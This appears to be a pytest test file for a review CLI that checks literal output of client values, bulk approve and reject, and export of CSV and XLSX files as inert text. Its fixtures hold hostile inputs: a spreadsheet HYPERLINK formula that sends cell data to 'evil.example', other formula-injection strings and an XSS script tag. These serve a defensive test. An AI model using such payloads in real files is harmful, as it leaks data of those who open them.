"""``bpo review`` as an agent types it: client values printed literally, bulk resolve, exports that stay inert."""

from __future__ import annotations

import csv
import json
import uuid
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from bpo.cli import app
from bpo.review import get_item, list_items
from bpo.settings import Settings
from tests.cli import bpo
from tests.test_review import item_id, keep_open, make_item, store

WIDE = {"COLUMNS": "400"}  # no wrapping: a value is found whole in the output
MARKUP = {"first_name": "[/b]", "last_name": "[red]Lee[/red]", "plan": "<script>alert(1)</script>"}
FLAGGED = [{"field": "customer_id", "check": "duplicate_key", "reason": "another record has this key"}]


@pytest.fixture
def settings(ops_db: str) -> Settings:
    return Settings(ops_database_url=ops_db)


@pytest.fixture
def run_id() -> str:
    return str(uuid.uuid4())


def test_list_and_show_print_client_values_literally(settings: Settings, run_id: str) -> None:
    item = make_item(run_id, 2, failed_checks=[{"field": "first_name", "check": "[bold]x",
                                                "reason": "has [/b] in it [red]"}], **MARKUP)
    item.record_key = "[/b]form.csv:2"
    store(settings.ops_database_url, [item])
    iid = list_items(settings, flow_run_id=run_id)[0].id

    listed = bpo("review", "list", "--run", run_id, env=WIDE)
    assert listed.returncode == 0, listed.stderr
    assert "[/b]form.csv:2" in listed.stdout and "first_name:[bold]x" in listed.stdout

    shown = bpo("review", "show", str(iid), env=WIDE)
    assert shown.returncode == 0, shown.stderr
    for value in (*MARKUP.values(), "[/b]form.csv:2", "first_name: has [/b] in it [red] ([bold]x)"):
        assert value in shown.stdout, value


def test_bulk_resolve_from_the_cli(settings: Settings, run_id: str) -> None:
    url = settings.ops_database_url
    store(url, [make_item(run_id, 2, failed_checks=FLAGGED), make_item(run_id, 3, failed_checks=FLAGGED),
                make_item(run_id, 4, email="four-at-example.com")])
    keep_open(url, run_id)  # passes as proposed: approved with the others
    ids = {r: item_id(settings, run_id, r) for r in (2, 3, 4, 999)}

    # item 4 still fails, so it stays open and the run is not resumed (no Prefect here)
    passing = bpo("review", "resolve", "--all-open", "--run", run_id, "--approve-passing", "--as", "bob", "--json")
    assert passing.returncode == 0, passing.stderr
    report = json.loads(passing.stdout)
    assert report["selected"] == 4
    assert report["decided"] == {str(ids[r]): "approved" for r in (2, 3, 999)}
    assert set(report["left_open"]) == {str(ids[4])}
    assert {f["field"] for f in report["left_open"][str(ids[4])]} == {"email"}
    assert report["refused"] == {} and report["resumed"] == []
    assert get_item(settings, ids[4]).status == "open"
    assert get_item(settings, ids[2]).decided_by == "bob"


def test_reject_a_selection_from_the_cli_and_flags_that_do_not_go_together(settings: Settings, run_id: str) -> None:
    url = settings.ops_database_url
    store(url, [make_item(run_id, r) for r in (2, 3, 4)])
    keep_open(url, run_id)
    ids = [str(item_id(settings, run_id, r)) for r in (2, 3, 4)]

    for wrong, says in ((["--approve", *ids], "--approve-passing"), (["--reject", *ids], "needs a reason"),
                        (["--approve-passing"], "--all-open"), ([ids[0], "--approve", "--reject"], "one of"),
                        ([ids[0], "--reject", "--reason", "x", "--set", "a=b"], "--set and --keep go with --approve"),
                        ([*ids, "--run", run_id, "--approve-passing"], "narrow --all-open"),
                        ([ids[0], "--decision", "[1]"], "JSON object")):
        res = CliRunner().invoke(app, ["review", "resolve", *wrong, "--as", "bob"])  # in process: only flags
        assert res.exit_code == 2 and says in res.stderr, (wrong, res.stderr)
    assert {get_item(settings, int(i)).status for i in ids} == {"open"}

    done = bpo("review", "resolve", "--reject", "--reason", "[/b] withdrawn by the client", *ids[:2], "--as", "bob")
    assert done.returncode == 0, done.stderr
    assert "2 selected: 0 approved, 2 rejected, 0 left open, 0 not decided" in done.stdout
    assert {get_item(settings, int(i)).reason for i in ids[:2]} == {"[/b] withdrawn by the client"}
    # a single decision goes as it always did; one already taken names who took it
    again = bpo("review", "resolve", ids[0], "--reject", "--reason", "dup", "--as", "carol", env=WIDE)
    assert again.returncode == 1 and "already rejected (by bob)" in again.stderr


FORMULAS = {"first_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "last_name": "+1+2",
            "plan": "-2+3", "postal_code": "@SUM(A1:A9)", "country": "\t=1+1"}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_writes_formulas_from_a_client_file_as_inert_text(settings: Settings, run_id: str, tmp_path: Path,
                                                                 suffix: str) -> None:
    process = f"export_{uuid.uuid4().hex[:6]}"
    store(settings.ops_database_url, [make_item(run_id, 2, process=process, **FORMULAS),
                                      make_item(run_id, 3, process=process, first_name="Ann")])
    path = tmp_path / f"items{suffix}"
    res = bpo("review", "export", str(path), "--process", process)
    assert res.returncode == 0, res.stderr
    assert "2 item(s) written" in res.stdout

    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        header, cells = rows[0], rows[1:]
    else:
        sheet = load_workbook(path).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no cell is a formula
        header, *cells = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows()]
    assert header[:4] == ["id", "process", "record", "status"] and header[-4:] == [
        "decision", "reason", "decided_by", "decided_at"]
    by_record = {row[2]: dict(zip(header, row, strict=True)) for row in cells}
    formulas = by_record["f.csv:2"]
    for field, value in FORMULAS.items():
        assert formulas[field] == "'" + value
    assert by_record["f.csv:3"]["first_name"] == "Ann"
    assert formulas["status"] == "open" and formulas["process"] == process


def test_export_refuses_a_file_it_cannot_write(settings: Settings, tmp_path: Path) -> None:
    res = bpo("review", "export", str(tmp_path / "items.ods"))
    assert res.returncode == 2 and ".csv or .xlsx" in res.stderr


def test_review_next_claims_one_item_and_gives_it_again_until_resolved(settings: Settings, run_id: str) -> None:
    store(settings.ops_database_url, [make_item(run_id, 2)])
    actor = f"next-{uuid.uuid4().hex[:6]}"
    first = bpo("review", "next", "--as", actor, env=WIDE)
    assert first.returncode == 0, first.stderr
    claimed = [i for i in list_items(settings, limit=None) if i.assignee == actor]
    assert len(claimed) == 1 and f"item {claimed[0].id} claimed by {actor}" in first.stdout
    again = bpo("review", "next", "--as", actor, env=WIDE)
    assert f"item {claimed[0].id} claimed by {actor}" in again.stdout  # the one held comes first
    assert len([i for i in list_items(settings, limit=None) if i.assignee == actor]) == 1


def test_a_correction_from_the_cli_on_the_database_is_validated_again(settings: Settings, run_id: str) -> None:
    store(settings.ops_database_url, [make_item(run_id, 2, email="two-at-example.com")])
    keep_open(settings.ops_database_url, run_id)
    iid = str(item_id(settings, run_id, 2))
    cli = CliRunner()  # in process, on the ops database (no BPO_TOKEN)
    still = cli.invoke(app, ["review", "resolve", iid, "--approve", "--set", "email=still-wrong", "--as", "bob"])
    assert still.exit_code == 3 and "email" in still.stderr and get_item(settings, int(iid)).status == "open"
    fixed = cli.invoke(app, ["review", "resolve", iid, "--approve", "--set", "email=Two@Example.com", "--as", "bob"])
    assert fixed.exit_code == 0, fixed.stderr
    item = get_item(settings, int(iid))
    assert (item.status, item.decided_by, item.decision["email"]) == ("approved", "bob", "two@example.com")
